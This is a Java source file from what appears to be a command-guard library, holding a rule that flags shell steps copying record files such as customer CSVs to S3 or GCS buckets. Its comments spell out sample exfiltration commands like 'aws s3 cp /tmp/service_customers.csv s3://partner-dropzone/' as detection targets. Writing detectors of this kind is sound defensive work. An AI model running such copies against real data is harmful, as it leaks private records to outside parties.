package io.github.providergateway.guard.internal;

import io.github.providergateway.guard.shell.Word;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;

/**
 * A file of records copied from this machine to a bucket (decision 198, {@code out.file-to-host}):
 * {@code aws s3 cp /tmp/service_customers.csv s3://partner-dropzone/ --profile admin}, {@code
 * gsutil cp exports/x.parquet gs://other-agency-ingest/}, a {@code find -exec gsutil cp {} gs://…}.
 * Decision 184 left the bucket out as one the guard cannot tell from the project's own; over every
 * spent round no writer's ordinary call copied a file of records from this machine to a bucket but
 * out of a build's folder, while a dozen harmful ones did. A bucket named for development, staging
 * or tests, a build's output, a test's or made-up data, a download and a dry run are none.
 */
final class RecordsToBucket {
  private RecordsToBucket() {}

  /** The command words that copy, by program: {@code aws s3 cp}, {@code gsutil cp}, …. */
  private static final Set<String> COPY_WORDS = Set.of("cp", "mv", "sync", "rsync", "put");

  /**
   * Whether the step copies a file of records of this machine into a bucket not named for tests.
   */
  static boolean copies(Scan scan, Step step) {
    List<String> words = new ArrayList<>();
    for (Word word : CopierOptions.operands(step)) {
      words.add(word.text());
    }
    int verb = verb(step.program(), words);
    if (verb < 0 || dryRun(step.args()) || words.size() < verb + 3) {
      return false;
    }
    String destination = words.get(words.size() - 1);
    String bucket = bucket(destination);
    if (bucket == null
        || Environments.stagingHost(bucket)
        || Environments.testName(bucket)
        || bucket.contains("example")) {
      return false;
    }
    for (String operand : words.subList(verb + 1, words.size() - 1)) {
      if (operand.equals("-") || bucket(operand) != null) {
        continue; // standard input (the pipe's rules read it), or another bucket: no file here
      }
      for (String source : FindExecFiles.named(scan, step, operand)) {
        if (RecordsCopiedOut.records(source)) {
          return true;
        }
      }
    }
    return false;
  }

  /** The index of the copying word among the operands, or -1 where the step does not copy. */
  static int verb(String program, List<String> words) {
    int at =
        switch (program) {
          case "aws" -> words.size() > 1 && words.get(0).equals("s3") ? 1 : -1;
          case "gcloud" -> words.size() > 1 && words.get(0).equals("storage") ? 1 : -1;
          case "gsutil", "s3cmd" -> 0;
          default -> -1;
        };
    return at >= 0 && COPY_WORDS.contains(words.get(at)) ? at : -1;
  }

  /**
   * {@code --dryrun}, {@code --dry-run}, gsutil's and s3cmd's {@code -n}: nothing is copied. Not
   * {@link SharedActs#dryRun}, which reads gsutil's {@code -h HEADER} as a request for help.
   */
  private static boolean dryRun(List<Word> args) {
    return args.stream().map(Word::text).anyMatch(Set.of("--dryrun", "--dry-run", "-n")::contains);
  }

  /** The bucket an {@code s3://} or {@code gs://} URL names, or {@code null}. */
  static String bucket(String place) {
    String lower = place.toLowerCase(Locale.ROOT);
    if (!lower.startsWith("s3://") && !lower.startsWith("gs://")) {
      return null;
    }
    String name = lower.substring(5).split("/", 2)[0];
    return name.isEmpty() ? null : name;
  }
}
